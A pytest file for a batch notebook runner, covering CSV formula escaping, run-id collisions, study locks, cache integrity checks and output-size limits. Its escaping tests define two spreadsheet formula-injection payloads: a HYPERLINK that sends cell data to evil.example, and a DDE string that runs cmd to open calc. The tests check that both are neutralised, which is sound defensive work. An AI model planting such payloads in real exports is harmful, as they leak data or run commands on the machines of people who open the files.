"""Outputs under stress: CSV cells that are data, run ids that cannot replace the study's
own files, one runner per study folder, a cache that checks content, and clear errors for
unwritable or over-long outputs and huge cell output.

Each test executes real (tiny) notebooks through the batch runner unless it says otherwise.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from batch_helpers import execute_run_on_a_full_disk, write_notebook, write_study

from workbench.batch import runner as runner_mod
from workbench.batch.cache import check_cached
from workbench.batch.execute import PARTIAL_SUFFIX, RunTask
from workbench.batch.runner import run_study
from workbench.batch.study import MAX_STUDY_NAME, STUDY_ROOT_NAMES, load_study
from workbench.batch.study_lock import LOCK_FILE, StudyLock
from workbench.cli import main
from workbench.errors import OutputWriteError, StudyError
from workbench.files import FORMULA_STARTS, csv_safe, write_csv

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, CALC)


def _cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _plain_number(text: str) -> bool:
    return re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text) is not None


def _assert_no_formula(path: Path) -> list[list[str]]:
    """Every cell of the CSV at ``path`` that starts like a formula is a plain number."""
    rows = _cells(path)
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert _plain_number(cell), f"{path.name}: a formula cell {cell!r}"
    return rows


# --- CSV cells are data, never formulas -------------------------------------------------

#: Writes one finding per provider whose text fields start with the provider's name.
NAMES_CODE = '''\
from pathlib import Path
import pandas as pd
from workbench import Finding, write_findings
panel = pd.read_parquet(panel_path)
write_findings([Finding(id=f"change:y@{row.provider_code}", question=row.provider_name,
                        estimate=-1.5 - i, ci_low=-3.25, ci_high=0.5, unit="points",
                        sector=row.provider_name, warning=row.provider_name,
                        sentence=row.provider_name, parameters={"subset": subset})
                for i, row in enumerate(panel.itertuples())],
               Path(output_dir) / "findings.json")
'''


def test_formula_payloads_in_provider_names_are_escaped_in_both_findings_tables(tmp_path):
    write_notebook(tmp_path / "nb" / "names.ipynb", code=NAMES_CODE)
    study = write_study(tmp_path, "  - notebook: nb/names.ipynb\n    parameters: {subset: nhs}\n")
    panel = pd.read_parquet(tmp_path / "panel.parquet")
    panel["provider_name"] = [HYPERLINK, CALC, "\tTabbed name"]
    panel.to_parquet(tmp_path / "panel.parquet", index=False)
    result = run_study(study, out=tmp_path / "out", workers=1, progress=False)
    assert result.exit_code == 0, result.summary()
    study_out = tmp_path / "out" / "tiny"
    for path in (study_out / "findings.csv", study_out / "analyst" / "findings.csv"):
        rows = _assert_no_formula(path)
        header = rows[0]
        body = {r[header.index("id")]: dict(zip(header, r)) for r in rows[1:]}
        assert len(body) == 3
        for code, name, estimate in (("RA1", HYPERLINK, "-1.5"), ("RB2", CALC, "-2.5"),
                                     ("NC3", "\tTabbed name", "-3.5")):
            row = body[f"change:y@{code}"]
            for column in ("question", "sector", "warning"):
                assert row[column] == "'" + name  # shown as text, not run
            # negative numbers stay numbers: a spreadsheet (and pandas) reads them as such
            assert row["estimate"] == estimate and row["ci_low"] == "-3.25"
        assert sorted(pd.read_csv(path)["estimate"].tolist()) == [-3.5, -2.5, -1.5]
    raw = (study_out / "analyst" / "findings.csv").read_text(encoding="utf-8")
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and ",@SUM" not in raw


def test_formula_payloads_in_an_ods_name_are_escaped_in_the_coverage_table(tmp_path):
    from test_panel_build import make_folder

    from workbench.data import panel as P

    raw = make_folder(tmp_path / "raw")

    def line(code: str, name: str, grouping: str = "Y56") -> str:
        fields = [code, name, grouping, "QKK", "1 ROAD", "", "", "LONDON", "", "SE1 9RT",
                  "19930401", ""] + [""] * 15
        buf = io.StringIO()
        csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\n").writerow(fields)
        return buf.getvalue()

    (raw / "ods" / "etr.csv").write_text(line("RJ1", HYPERLINK) + line("RXL", CALC, "Y62"),
                                         encoding="utf-8")
    res = P.build(raw, out=tmp_path / "processed")
    assert set(PAYLOADS) <= set(res.panel["provider_name"])  # the data keep the true name
    rows = _assert_no_formula(res.coverage_path)
    names = {r[rows[0].index("provider_code")]: r[rows[0].index("provider_name")]
             for r in rows[1:]}
    assert names["RJ1"] == "'" + HYPERLINK and names["RXL"] == "'" + CALC
    cov = pd.read_csv(res.coverage_path)  # the rest reads as before
    assert (cov["period"] == "2017-09-01").any() and cov["staffing"].dtype == bool


def test_csv_safe_and_write_csv_escape_text_only(tmp_path):
    assert [csv_safe(v) for v in ("=1+1", "+A1", "-A", "@x", "\tx", "\rx", "-1+1")] == \
        ["'=1+1", "'+A1", "'-A", "'@x", "'\tx", "'\rx", "'-1+1"]
    assert [csv_safe(v) for v in (-2, -2.5, "-2.5", "+3", "1e-3", "N020", "", None)] == \
        [-2, -2.5, "-2.5", "+3", "1e-3", "N020", "", None]
    df = pd.DataFrame({"name": pd.Series([CALC, "B"], dtype="category"),
                       "when": pd.to_datetime(["2024-01-01", "2024-02-01"]),
                       "change": [-1.25, 3.0], "ok": [True, False]})
    text = write_csv(df, tmp_path / "t.csv").read_text()
    assert text.splitlines() == ["name,when,change,ok", f"'{CALC},2024-01-01,-1.25,True",
                                 "B,2024-02-01,3.0,False"]


def test_every_csv_writer_of_the_workbench_goes_through_workbench_files():
    """A new writer calling pandas' to_csv or csv.writer directly would skip the escaping."""
    found = []
    for path in sorted((ROOT / "workbench").rglob("*.py")):
        if path.name == "files.py" and path.parent.name == "workbench":
            continue
        for no, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.strip()
            if code.startswith((">>>", "...", "#")):
                continue  # docstring examples write fixtures, not outputs
            if re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", code):
                found.append(f"{path.relative_to(ROOT)}:{no}: {code}")
    assert not found, "CSV written without workbench.files.write_csv/open_csv:\n" + \
        "\n".join(found)


# --- run ids that cannot collide -----------------------------------------------------------

RESERVED_NOTEBOOKS = ("data", "analyst", "index.html", "findings.csv", "Disclosure.json",
                      ".hidden")


def _reserved_study(tmp_path: Path) -> Path:
    code = ('from pathlib import Path\nPath(output_dir, "findings.json").write_text("[]")\n'
            'print("rows", len(__import__("pandas").read_parquet(panel_path)))\n')
    entries = ""
    for stem in RESERVED_NOTEBOOKS:
        write_notebook(tmp_path / "nb" / f"{stem}.ipynb", code=code)
        entries += f"  - nb/{stem}.ipynb\n"
    return write_study(tmp_path, entries)


def test_run_ids_that_are_the_studys_own_names_are_renamed_and_dry_run_says_so(
        tmp_path, capsys):
    study = _reserved_study(tmp_path)
    assert main(["run", str(study), "--dry-run", "--out", str(tmp_path / "out")]) == 0
    shown = capsys.readouterr().out
    expected = {"data": "data-run", "analyst": "analyst-run", "index.html": "index.html-run",
                "findings.csv": "findings.csv-run", "Disclosure.json": "Disclosure.json-run",
                ".hidden": "_hidden"}
    assert [r.run_id for r in load_study(study).runs] == list(expected.values())
    for stem, new in expected.items():
        line = rf"^{re.escape(new)}\s+{re.escape(stem)}\.ipynb"
        assert re.search(line, shown, re.MULTILINE), shown
        assert f"the run is written as '{new}'" in shown
    assert "'data' is the study's own data folder" in shown
    assert "'Disclosure.json' is the study's own disclosure.json file" in shown
    assert not (tmp_path / "out").exists()  # a dry run writes nothing

    result = run_study(study, out=tmp_path / "out", workers=2, progress=False)
    assert [r.status for r in result.results] == ["ok"] * len(expected), result.summary()
    study_out = tmp_path / "out" / "tiny"
    assert pd.read_parquet(study_out / "data" / "panel.parquet").shape[0] == 3  # intact
    assert (study_out / "findings.csv").is_file() and (study_out / "index.html").is_file()
    assert (study_out / "analyst" / "findings.csv").is_file()
    index = (study_out / "index.html").read_text(encoding="utf-8")
    for new in expected.values():
        assert (study_out / new / "manifest.json").is_file()
        assert f'href="{new}/report.html"' in index
    # whatever the study writes at its root besides run folders is a reserved name
    own = {p.name for p in study_out.iterdir()} - set(expected.values())
    for name in own:
        assert name in STUDY_ROOT_NAMES or re.fullmatch(r"index-\d+\.html", name), name


def test_an_over_long_study_name_is_refused_when_planning_with_the_limit(tmp_path, capsys):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    study.write_text(study.read_text().replace("name: tiny", "name: " + "a" * 5000))
    for extra in (["--dry-run"], []):
        code = main(["run", str(study), "--out", str(tmp_path / "out"), *extra])
        err = capsys.readouterr().err
        assert code == 2 and "Traceback" not in err
        assert "key 'name'" in err and "5,000 characters long" in err
        assert f"more than the limit of {MAX_STUDY_NAME}" in err and len(err) < 800
    assert not (tmp_path / "out").exists()


def test_an_output_folder_whose_paths_would_be_too_long_is_refused_when_planning(
        tmp_path, capsys):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    deep = tmp_path / "/".join(["d" * 200] * 20)  # about 4,000 bytes: room for no run folder
    assert main(["run", str(study), "--dry-run", "--out", str(deep)]) == 2
    err = capsys.readouterr().err
    assert "limit of 4,096 bytes" in err and "choose a shorter --out" in err
    too_long_name = tmp_path / ("o" * 300)
    assert main(["run", str(study), "--out", str(too_long_name)]) == 2
    err = capsys.readouterr().err
    assert "300 bytes long" in err and "(255 bytes a name)" in err and "Traceback" not in err


# --- one runner per study folder; partial folders per process --------------------------------

def test_a_second_runner_of_the_same_study_is_refused_naming_the_holder(tmp_path):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    with StudyLock(tmp_path / "out" / "tiny"):
        holder = json.loads((tmp_path / "out" / "tiny" / LOCK_FILE).read_text())
        with pytest.raises(StudyError) as info:
            run_study(study, out=tmp_path / "out", workers=1, progress=False)
    message = str(info.value)
    assert f"process {os.getpid()} on host {socket.gethostname()}" in message
    assert f"started {holder['started']}" in message and "--out" in message
    assert not (tmp_path / "out" / "tiny" / "tiny").exists()  # nothing was run


def test_two_commands_at_once_one_runs_and_the_other_is_refused(tmp_path):
    slow = 'import time\ntime.sleep(6)\n' + \
        'from pathlib import Path\nPath(output_dir, "findings.json").write_text("[]")\n'
    write_notebook(tmp_path / "nb" / "slow.ipynb", code=slow)
    study = write_study(tmp_path, "  - nb/slow.ipynb\n")
    out = tmp_path / "out"
    cmd = [sys.executable, "-m", "workbench.cli", "run", str(study), "--out", str(out),
           "--workers", "1", "--no-progress"]
    first = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    lock = out / "tiny" / LOCK_FILE
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (lock.is_file() and lock.read_text()):
        time.sleep(0.05)
    second = subprocess.run(cmd, capture_output=True, text=True, timeout=120, check=False)
    out1, err1 = first.communicate(timeout=180)
    assert first.returncode == 0, err1[-2000:]
    assert "1 ok, 0 failed" in out1
    assert second.returncode == 2 and "Traceback" not in second.stderr
    assert f"process {first.pid} on host" in second.stderr and "started 20" in second.stderr
    manifest = json.loads((out / "tiny" / "slow" / "manifest.json").read_text())
    assert manifest["status"] == "ok"
    assert not lock.exists()  # removed when the first runner ended


def test_a_stale_lock_of_a_dead_process_is_taken_over_with_a_note(tmp_path):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    study_out = tmp_path / "out" / "tiny"
    study_out.mkdir(parents=True)
    (study_out / LOCK_FILE).write_text(json.dumps(
        {"pid": dead.pid, "host": socket.gethostname(), "started": "2026-01-02T03:04:05Z",
         "fingerprint": "x:1"}))
    (study_out / f".tiny{PARTIAL_SUFFIX}-{dead.pid}-abcdef").mkdir()  # what it left half-done
    result = run_study(study, out=tmp_path / "out", workers=1, progress=False)
    assert result.exit_code == 0
    note = f"took over the lock of process {dead.pid} on host {socket.gethostname()}, " \
           "started 2026-01-02T03:04:05Z, which ended without releasing it"
    assert note in result.summary()
    assert sorted(p.name for p in study_out.iterdir() if p.name.startswith(".")) == []


def test_a_lock_held_on_another_host_is_not_taken_over(tmp_path):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    study_out = tmp_path / "out" / "tiny"
    study_out.mkdir(parents=True)
    (study_out / LOCK_FILE).write_text(json.dumps(
        {"pid": 4242, "host": "node-17.cluster", "started": "2026-01-02T03:04:05Z"}))
    with pytest.raises(StudyError, match="process 4242 on host node-17.cluster, started "
                                         "2026-01-02T03:04:05Z; this machine"):
        run_study(study, out=tmp_path / "out", workers=1, progress=False)


def test_partial_folders_carry_their_writer_and_only_the_studys_are_swept(tmp_path):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = load_study(write_study(tmp_path, "  - nb/tiny.ipynb\n"))
    run = study.runs[0]
    task = RunTask(run=run, out_dir=tmp_path, panel_path=tmp_path / "p", data={})
    assert task.partial_dir.name == f".tiny{PARTIAL_SUFFIX}-{os.getpid()}"
    one = RunTask(run=run, out_dir=tmp_path, panel_path=tmp_path / "p", data={},
                  partial_tag="101-aaaaaa")
    two = RunTask(run=run, out_dir=tmp_path, panel_path=tmp_path / "p", data={},
                  partial_tag="202-bbbbbb")
    assert one.partial_dir != two.partial_dir
    for name in (one.partial_dir.name, ".tiny.partial", ".other.partial-1-ab", "keep"):
        (tmp_path / name).mkdir()
    runner_mod._remove_partials(tmp_path, study)
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_dir() and p.name != "nb") == \
        [".other.partial-1-ab", "keep"]


# --- a cache that checks content ------------------------------------------------------------

def test_a_findings_file_edited_in_place_is_run_again_not_reused(tmp_path):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - notebook: nb/tiny.ipynb\n"
                                  "    parameters: {subset: [acute, nhs]}\n")
    out = tmp_path / "out"
    first = run_study(study, out=out, workers=2, progress=False)
    assert first.exit_code == 0
    folder = out / "tiny" / "tiny--subset-acute"
    nhs_key = json.loads((out / "tiny" / "tiny--subset-nhs" / "manifest.json").read_text())[
        "cache_key"]
    manifest = json.loads((folder / "manifest.json").read_text())
    assert set(manifest["output_sha256"]) == set(manifest["outputs"])
    findings = folder / "findings.json"
    text = findings.read_text()
    assert '"estimate": 2.333333333' in text
    edited = text.replace('"estimate": 2.333333333', '"estimate": 9.333333333')
    assert len(edited) == len(text)
    findings.write_text(edited)  # one digit, same size, in place

    again = run_study(study, out=out, workers=2, progress=False)
    assert not again.results[0].cached
    assert again.results[1].cached or nhs_key != json.loads(  # (unless the code changed
        (out / "tiny" / "tiny--subset-nhs" / "manifest.json").read_text())["cache_key"]
    assert "tiny--subset-acute: executed again, not reused from cache: findings.json " \
           "changed since the run finished (its sha256 differs" in again.summary()
    assert "9.333" not in findings.read_text()
    table = pd.read_csv(out / "tiny" / "findings.csv")
    assert table.loc[table["run_id"] == "tiny--subset-acute", "estimate"].item() == \
        pytest.approx(7 / 3)
    redone = json.loads((folder / "manifest.json").read_text())
    assert redone["rerun_reason"].startswith("findings.json changed since the run finished")
    assert "executed again, not reused from cache: findings.json" in \
        (folder / "run.log").read_text()
    assert check_cached(folder, redone["cache_key"]).reusable
    # a manifest written before output hashes were kept cannot vouch for its files
    del redone["output_sha256"]
    (folder / "manifest.json").write_text(json.dumps(redone))
    check = check_cached(folder, redone["cache_key"])
    assert not check.reusable and "holds no sha256 of its output files" in check.reason


# --- clear errors ---------------------------------------------------------------------------

def test_a_read_only_out_folder_is_a_clear_error_not_a_traceback(tmp_path, monkeypatch,
                                                                   capsys):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    out = tmp_path / "ro"
    real_mkdir = Path.mkdir

    def mkdir(self, *args, **kwargs):  # root ignores permissions: the refusal is made here
        if str(self).startswith(str(out)):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(self))
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    code = main(["run", str(study), "--out", str(out), "--no-progress"])
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err and len(err.splitlines()) == 1
    assert err.startswith(f"workbench: {out / 'tiny'}: the file system is read-only (EROFS")
    assert "choose a folder you can write to with --out" in err


def test_a_full_out_folder_is_an_output_write_error_saying_what_to_do(tmp_path, monkeypatch):
    write_notebook(tmp_path / "nb" / "tiny.ipynb")
    study = write_study(tmp_path, "  - nb/tiny.ipynb\n")
    monkeypatch.setattr(runner_mod, "execute_run", execute_run_on_a_full_disk)
    with pytest.raises(OutputWriteError) as info:
        run_study(study, out=tmp_path / "out", workers=1, progress=False, preload=False)
    assert Path(info.value.path).name == "manifest.json"
    assert "no space left on the device" in str(info.value)
    assert "make room on that disk, or write the study elsewhere with --out" in str(info.value)
    assert not (tmp_path / "out" / "tiny" / LOCK_FILE).exists()  # released on the way out


HUGE_CODE = '''\
from pathlib import Path
Path(output_dir, "findings.json").write_text("[]")
for i in range(3000):
    print(f"{i:06d} " + "x" * 993)
print("LAST_LINE_NOT_KEPT")
if fail:
    raise ValueError("failed after printing a lot")
'''


def test_a_cell_printing_too_much_is_cut_with_a_note_and_errors_still_count(tmp_path):
    from workbench.batch.engine import MAX_CELL_OUTPUT, TRUNCATED_KEY

    write_notebook(tmp_path / "nb" / "huge.ipynb", code=HUGE_CODE)
    study = write_study(tmp_path, "  - notebook: nb/huge.ipynb\n"
                                  "    parameters: {fail: [false, true]}\n")
    result = run_study(study, out=tmp_path / "out", workers=2, progress=False)
    ok, failed = result.results
    assert ok.status == "ok" and failed.status == "failed"
    assert failed.error_line == "ValueError: failed after printing a lot"  # the error is kept
    folder = tmp_path / "out" / "tiny" / ok.run_id
    report = (folder / "report.html").read_text(encoding="utf-8")
    assert len(report) < MAX_CELL_OUTPUT + 400_000  # 3 MB printed, about 2 MB kept
    assert "[output truncated: this cell&#39;s output passed the limit of 2,000,000 " \
           "characters a cell" in report or \
           "[output truncated: this cell's output passed the limit of 2,000,000" in report
    assert "LAST_LINE_NOT_KEPT" not in report and "001990 xxx" in report  # the first 2 MB
    nb = nbformat.read(folder / "notebook.ipynb", as_version=4)
    cut = [c for c in nb.cells if TRUNCATED_KEY in c.metadata]
    assert len(cut) == 1 and cut[0].metadata[TRUNCATED_KEY]["dropped_characters"] > 900_000
    assert (folder / "notebook.ipynb").stat().st_size < MAX_CELL_OUTPUT + 200_000
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["truncated_outputs"][0]["limit_characters"] == MAX_CELL_OUTPUT
    log = (folder / "run.log").read_text()
    assert "passed the limit of 2,000,000 characters" in log and len(log) < 2_200_000


def test_the_cell_output_cap_can_be_set_by_environment(monkeypatch):
    from workbench.batch.engine import MAX_CELL_OUTPUT, MAX_CELL_OUTPUT_ENV, max_cell_output

    monkeypatch.setenv(MAX_CELL_OUTPUT_ENV, "50000000")
    assert max_cell_output() == 50_000_000
    monkeypatch.setenv(MAX_CELL_OUTPUT_ENV, "lots")
    assert max_cell_output() == MAX_CELL_OUTPUT

